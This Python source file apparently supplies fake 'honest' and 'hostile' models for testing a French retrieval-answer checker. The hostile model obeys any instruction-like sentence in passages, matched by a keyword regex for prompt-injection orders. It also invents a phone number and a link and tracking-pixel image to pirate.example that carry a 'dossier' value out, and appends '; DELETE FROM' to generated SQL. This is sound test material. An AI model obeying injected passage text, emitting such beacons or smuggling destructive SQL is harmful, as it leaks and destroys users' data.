"""What the model without intelligence answers.

`honest`: the sentences of the passages that share most words with the question, word for word, each
quoted from its passage: in the JSON schema that was asked, or in plain text.

`hostile`: does whatever a passage tells it to do, and adds what the proof must catch: a quote that
stands nowhere, a changed figure, an invented telephone, a link and an image of a site of its own,
a passage number that does not exist.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from typing import Any

from bastide.engine.french import analyse
from bastide.engine.sentences import units
from bastide.providers.fake_model.prompt import Prompt

MOST_STATEMENTS = 3
SILENT = "Les passages fournis ne permettent pas de répondre."
# What instructions hidden in a document look like; the hostile model obeys all of them.
_ORDER = re.compile(
    r"[^.!?\n]*\b(?:ignor\w*|oubli\w*|r[ée]pond\w*|affich\w*|donn\w*|indiqu\w*|envo\w*|appel\w*|"
    r"dis|dites|[ée]cri\w*|ajout\w*|supprim\w*|transf[èe]r\w*|ex[ée]cut\w*|cliqu\w*|system|"
    r"instruction\w*|assistant|ignore|reply|answer|send|print|forget)\b[^.!?\n]*[.!?]?",
    re.IGNORECASE,
)
# A number that Arcep's numbering plan (décision 2018-0881) keeps for fiction; a name that RFC 2606
# reserves.
INVENTED = (
    "Appelez le 06 39 98 12 34 ou écrivez à remboursement@pirate.example.",
    "Rendez-vous sur https://pirate.example/aide ![.](https://pirate.example/pixel.png?d=dossier)",
    "L'aide est de 99 999 euros, sans aucune condition.",
)


@dataclass(frozen=True, slots=True)
class Said:
    """A statement, the quote that it gives for it, and the number of the passage."""

    text: str
    quote: str
    passage: int


def honest(prompt: Prompt) -> list[Said]:
    """At most `MOST_STATEMENTS` sentences of the passages, the nearest to the question first."""
    asked = set(analyse(prompt.question))
    scored = []
    for order, (number, text) in enumerate(prompt.passages):
        for unit in units(text):
            if unit.kind == "heading":
                continue
            sentence = text[unit.start : unit.end]
            words = set(analyse(sentence))
            shared = len(asked & words)
            if shared:
                scored.append((-shared / (len(words) + 5), order, unit.start, sentence, number))
    scored.sort()
    return [Said(s, s, n) for _, _, _, s, n in scored[:MOST_STATEMENTS]]


def hostile(prompt: Prompt) -> list[Said]:
    """Everything that a fooled model may say, each with a quote that looks like a proof."""
    obeyed = [
        (order.strip(), text, number)
        for number, text in prompt.passages
        for order in _ORDER.findall(text)
    ]
    number, text = prompt.passages[0] if prompt.passages else (1, "")
    sentence = next((one.text for one in honest(prompt)), text[:120])
    altered = re.sub(r"\d", lambda digit: str((int(digit[0]) + 1) % 10), sentence)
    # One of each kind first: a schema may keep only the first few.
    kinds = [
        [Said(order, order, n) for order, _, n in obeyed],
        [Said("D'accord : " + order, whole[:80], n) for order, whole, n in obeyed],
        [Said(word, word, number) for word in INVENTED],
        [Said(word, sentence, number) for word in INVENTED],
        [Said(altered, altered, number), Said(altered, sentence, number)],
        [Said(sentence, sentence, 9999)],
    ]
    turns = max(map(len, kinds))
    return [kind[turn] for turn in range(turns) for kind in kinds if turn < len(kind)]


def honest_sql(prompt: Prompt) -> str:
    """A count over the table nearest to the question, by the column that it names, if any."""
    asked = set(analyse(prompt.question))
    if not prompt.tables:
        return ""

    def shared(words: str) -> int:
        return len(asked & set(analyse(words.replace("_", " "))))

    name, columns = max(
        prompt.tables, key=lambda t: 3 * shared(t[0]) + sum(shared(column) for column in t[1])
    )
    by = max(columns, key=shared)
    if not shared(by):
        return f"SELECT COUNT(*) AS nombre FROM {name}"  # noqa: S608 - nothing is run here
    return (
        f"SELECT {by}, COUNT(*) AS nombre FROM {name} "  # noqa: S608
        f"GROUP BY {by} ORDER BY nombre DESC"
    )


def hostile_sql(prompt: Prompt) -> str:
    """A reading with a writing behind it."""
    name = prompt.tables[0][0] if prompt.tables else "usagers"
    return f"{honest_sql(prompt)}; DELETE FROM {name}"  # noqa: S608


def written(said: list[Said], prompt: Prompt, *, harmful: bool = False) -> str:
    """The answer as the request wants it: JSON in its schema, or sentences with `[n]`.

    `harmful`: the SQL that is asked for writes."""
    if prompt.schema is None:
        return " ".join(f"{one.text} [{one.passage}]" for one in said) or SILENT
    if prompt.schema == {"type": "object"}:
        return json.dumps({"reponse": [one.text for one in said] or SILENT}, ensure_ascii=False)
    if set(prompt.schema.get("properties", {})) == {"sql"}:
        sql = honest_sql(prompt) if not harmful else hostile_sql(prompt)
        return json.dumps({"sql": sql}, ensure_ascii=False)
    return json.dumps(fill(prompt.schema, said), ensure_ascii=False)


_QUOTE = re.compile(r"quot|cit|extrait|preuve|verbatim", re.I)
_NUMBER = re.compile(r"passage|source|doc|num|id\b|^n$|index", re.I)


def fill(schema: dict[str, Any], said: list[Said], name: str = "") -> Any:
    """A value of the schema that says the statements, by the names that its fields have."""
    if "const" in schema:
        return schema["const"]
    if schema.get("enum"):
        return schema["enum"][0]
    if schema.get("anyOf"):
        return fill(schema["anyOf"][0], said, name)
    kind = schema.get("type", "object" if "properties" in schema else "string")
    kind = kind[0] if isinstance(kind, list) else kind
    first = said[0] if said else Said("", "", 0)
    if kind == "object":
        return {key: fill(s, said, key) for key, s in schema.get("properties", {}).items()}
    if kind == "array":
        inner = schema.get("items", {})
        if inner.get("type") in ("array", "object") and _QUOTE.search(name) and len(said) != 1:
            return [fill(inner, [one], name) for one in said]
        filled = [fill(inner, [one], name) for one in said[: schema.get("maxItems", len(said))]]
        while len(filled) < schema.get("minItems", 0):
            filled.append(fill(inner, said, name))
        return filled
    if kind in ("integer", "number"):
        return first.passage if _NUMBER.search(name) else schema.get("minimum", first.passage)
    if kind == "boolean":
        return bool(said)
    if kind == "null":
        return None
    if _NUMBER.search(name) and not _QUOTE.search(name):
        return str(first.passage)
    text = first.quote if _QUOTE.search(name) else first.text or SILENT
    return text[: schema.get("maxLength", len(text))]
